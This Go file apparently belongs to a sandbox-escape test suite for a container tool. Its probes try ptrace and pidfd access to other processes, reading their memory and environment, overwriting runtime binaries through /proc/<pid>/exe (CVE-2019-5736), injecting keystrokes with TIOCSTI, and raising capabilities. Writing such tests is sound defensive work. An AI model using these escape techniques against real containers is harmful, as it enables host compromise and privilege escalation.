//go:build linux

package escape

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// others are the processes that the probe sees, without itself; in the host's /proc it has another number.
func others() []int {
	self, _ := os.Readlink("/proc/self")
	var all []int
	dirs, _ := filepath.Glob("/proc/[0-9]*")
	for _, d := range dirs {
		if pid, err := strconv.Atoi(filepath.Base(d)); err == nil && strconv.Itoa(pid) != self {
			all = append(all, pid)
		}
	}
	return all
}

// tryPtrace takes hold of every other process in the box, and of what it has open.
func tryPtrace(a *attack) {
	self, _ := os.Readlink("/proc/self")
	own := self == strconv.Itoa(os.Getpid())
	for i, end := 0, time.Now().Add(30*time.Millisecond); i < 3 || time.Now().Before(end); i++ {
		for _, pid := range others() {
			for _, name := range []string{"exe", "cwd", "root", "environ", "mem", "auxv", "fd/0", "fd/3", "fd/4", "fd/5", "ns/mnt"} {
				f := fmt.Sprintf("/proc/%d/%s", pid, name)
				if _, err := os.Readlink(f); err == nil {
					a.reached("%s", f)
				}
				if n, err := readSome(f); err == nil && n > 0 {
					a.reached("%s", f)
				}
			}
			if !own { // the numbers are of other processes
				continue
			}
			if unix.PtraceSeize(pid) == nil {
				a.reached("ptrace of process %d", pid)
				return
			}
			if pidfd, err := unix.PidfdOpen(pid, 0); err == nil {
				for fd := range 64 {
					if _, err := unix.PidfdGetfd(pidfd, fd, 0); err == nil {
						a.reached("descriptor %d of process %d", fd, pid)
					}
				}
				unix.Close(pidfd)
			}
			if _, err := unix.ProcessVMReadv(pid, []unix.Iovec{{Base: new(byte), Len: 1}}, []unix.RemoteIovec{{Base: 0x400000, Len: 1}}, 0); err == nil {
				a.reached("memory of process %d", pid)
			}
		}
	}
}

// again is another process of the probe.
func again(words ...string) *exec.Cmd {
	cmd := exec.Command("/proc/self/exe", words...)
	cmd.Args[0] = probeName
	return cmd
}

// readSome opens a file, which may be a pipe, and reads a few bytes; those of a process's
// memory are where its program begins.
func readSome(name string) (int, error) {
	fd, err := unix.Open(name, unix.O_RDONLY|unix.O_NONBLOCK, 0)
	if err != nil {
		return 0, err
	}
	defer unix.Close(fd)
	if n, err := unix.Read(fd, make([]byte, 16)); n > 0 {
		return n, err
	}
	return unix.Pread(fd, make([]byte, 16), 0x400000)
}

// traceChild is what a debugger does: it follows a child of its own.
func traceChild() int {
	runtime.LockOSThread() // a tracer is a thread
	cmd := again("pause")
	if err := cmd.Start(); err != nil {
		return say("", err)
	}
	err := unix.PtraceSeize(cmd.Process.Pid)
	if err == nil {
		err = unix.PtraceInterrupt(cmd.Process.Pid)
	}
	if err == nil {
		_, err = syscall.Wait4(cmd.Process.Pid, nil, syscall.WALL, nil)
	}
	_ = cmd.Process.Kill()
	return say("traced", err)
}

// tryExe opens the program of every process for writing, straight and by a
// descriptor that it holds (CVE-2019-5736).
func tryExe(a *attack) {
	exes := []string{}
	for _, pid := range others() {
		exes = append(exes, fmt.Sprintf("/proc/%d/exe", pid))
	}
	for range 20 {
		for _, exe := range exes {
			for _, flags := range []int{unix.O_WRONLY, unix.O_RDWR} {
				if fd, err := unix.Open(exe, flags, 0); err == nil {
					a.reached("%s for writing", exe)
					unix.Close(fd)
				}
			}
			for _, flags := range []int{unix.O_RDONLY, unix.O_PATH} {
				if fd, err := unix.Open(exe, flags, 0); err == nil {
					a.reached("%s", exe)
					if again, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY, 0); err == nil {
						a.reached("%s for writing, by a descriptor", exe)
						unix.Close(again)
					}
					unix.Close(fd)
				}
			}
		}
	}
}

// helpers are names under which boxfile starts other programs. In a hostile rootfs they are the probe.
var helpers = []string{"pasta", "slirp4netns", "newuidmap", "newgidmap"}

// swallowed is the file in /mnt where a helper writes down what it has reached.
const swallowed = "swallowed"

// swallow is such a helper. The boxfile that starts it inside the box is its parent: it
// takes hold of that program's file, and waits to write to it.
func swallow() int {
	exe := fmt.Sprintf("/proc/%d/exe", os.Getppid())
	fd, err := unix.Open(exe, unix.O_RDONLY, 0)
	if err != nil {
		return 1
	}
	text := reachedMark + "the program that started it\n"
	if unix.Fchmod(fd, 0o777) == nil { // not even a program that runs is safe from that
		text += reachedMark + "its permissions\n"
	}
	_ = os.WriteFile("/mnt/"+swallowed, []byte(text), 0o644)
	for end := time.Now().Add(100 * time.Millisecond); time.Now().Before(end); {
		if w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY, 0); err == nil {
			_, _ = unix.Write(w, []byte("#!/bin/sh\n"))
			unix.Close(w)
			break
		}
	}
	return 1
}

// tryTerminal pushes bytes into the terminal that boxfile was started on
// (CVE-2017-5226, CVE-2019-10063, CVE-2023-28100).
func tryTerminal(a *attack) {
	fds := []int{0, 1, 2}
	if fd, err := unix.Open("/dev/tty", unix.O_RDWR, 0); err == nil {
		a.reached("/dev/tty: the box has the caller's terminal")
		fds = append(fds, fd)
	}
	typeInto(fds, a.reached)
}

// tryOwnTerminal looks for the caller's terminal behind the box's own, and types into
// that: what comes of it is the box's own business, unless the caller sees it.
func tryOwnTerminal(a *attack) {
	var pts, st unix.Stat_t
	if err := unix.Stat("/dev/pts", &pts); err != nil {
		a.reached("no /dev/pts of the box's own: %v", err)
	}
	for fd := range 3 {
		if err := unix.Fstat(fd, &st); err != nil || st.Dev != pts.Dev {
			a.reached("descriptor %d is not of the box's own /dev/pts: %v", fd, err)
		}
	}
	tty, err := unix.Open("/dev/tty", unix.O_RDWR, 0)
	self, _ := unix.Getsid(0)
	session, err2 := unix.IoctlGetInt(tty, unix.TIOCGSID)
	if err != nil || err2 != nil || session != self {
		a.reached("/dev/tty is not the terminal of the box's own session: %v, %v", err, err2)
	}
	typeInto([]int{0, 1, 2, tty}, func(string, ...any) {})
}

// typeInto pushes bytes into terminals, in every way there is.
func typeInto(fds []int, reached func(format string, args ...any)) {
	push := func(fd int, width uint64) {
		for _, c := range []byte("echo pushed\n") {
			_, _, errno := syscall.Syscall(syscall.SYS_IOCTL, uintptr(fd), uintptr(uint64(unix.TIOCSTI)|width), uintptr(unsafe.Pointer(&c)))
			if errno == 0 {
				reached("TIOCSTI on descriptor %d with %#x", fd, width)
				return
			}
		}
	}
	for _, fd := range fds {
		_, _, _ = syscall.Syscall(syscall.SYS_IOCTL, uintptr(fd), unix.TIOCSCTTY, 1)
		for _, width := range []uint64{0, 1 << 32} {
			push(fd, width)
		}
		for _, sub := range []byte{2, 3, 11, 14} { // set and paste the selection, and two queries
			_, _, errno := syscall.Syscall(syscall.SYS_IOCTL, uintptr(fd), 0x541c, uintptr(unsafe.Pointer(&sub)))
			if errno == 0 {
				reached("TIOCLINUX %d on descriptor %d", sub, fd)
			}
		}
	}
}

// leader is the host side of a terminal: it leads the session, runs the words,
// and prints what can then be read from the terminal that nobody typed.
func leader(words []string) int {
	out := os.NewFile(3, "result")
	cmd := exec.Command(words[0], words[1:]...)
	cmd.Stdin, cmd.Stdout, cmd.Stderr = os.Stdin, os.Stdout, os.Stderr
	err := cmd.Run()
	_ = unix.SetNonblock(0, true)
	b := make([]byte, 4096)
	n, _ := unix.Read(0, b)
	fmt.Fprintf(out, "%s%s", typedMark, strings.TrimSpace(string(b[:max(n, 0)])))
	if err != nil {
		return 1
	}
	return 0
}

// typedMark begins what leader has to say.
const typedMark = "typed: "

// inherit starts a program with every capability inheritable and ambient that the caller has.
func inherit(words []string) int {
	runtime.LockOSThread()
	header := unix.CapUserHeader{Version: unix.LINUX_CAPABILITY_VERSION_3}
	var sets [2]unix.CapUserData
	if err := unix.Capget(&header, &sets[0]); err != nil {
		return say("", err)
	}
	for i := range sets {
		sets[i].Inheritable = sets[i].Permitted
	}
	if err := unix.Capset(&header, &sets[0]); err != nil {
		return say("", err)
	}
	for c := range 64 {
		_ = unix.Prctl(unix.PR_CAP_AMBIENT, unix.PR_CAP_AMBIENT_RAISE, uintptr(c), 0, 0) // those that it has
	}
	return say("", syscall.Exec(words[0], words, os.Environ()))
}

// trySetGroups gets rid of the groups that shut the caller out.
func trySetGroups(a *attack) {
	a.refuses("a process without groups", unix.Setgroups(nil))
	a.refuses("a process with other groups", unix.Setgroups([]int{0, 7}))
	a.refuses("another group", unix.Setgid(7))
	a.refuses("another user", unix.Setuid(7))
}

// ordinaryWork is what an honest program does: threads, children, files, sockets, time.
func ordinaryWork() int {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return say("", err)
	}
	c, err := net.Dial("tcp", l.Addr().String())
	if err != nil {
		return say("", err)
	}
	c.Close()
	if out, err := again("words", "x").CombinedOutput(); err != nil {
		return say(string(out), err)
	}
	if err := os.WriteFile("/mnt/file", nil, 0o600); err != nil {
		return say("", err)
	}
	if err := os.Rename("/mnt/file", "/mnt/other"); err != nil {
		return say("", err)
	}
	page, err := unix.Mmap(-1, 0, os.Getpagesize(), unix.PROT_READ|unix.PROT_WRITE, unix.MAP_PRIVATE|unix.MAP_ANON)
	if err == nil {
		err = unix.Munmap(page)
	}
	return say("ordinary", err)
}
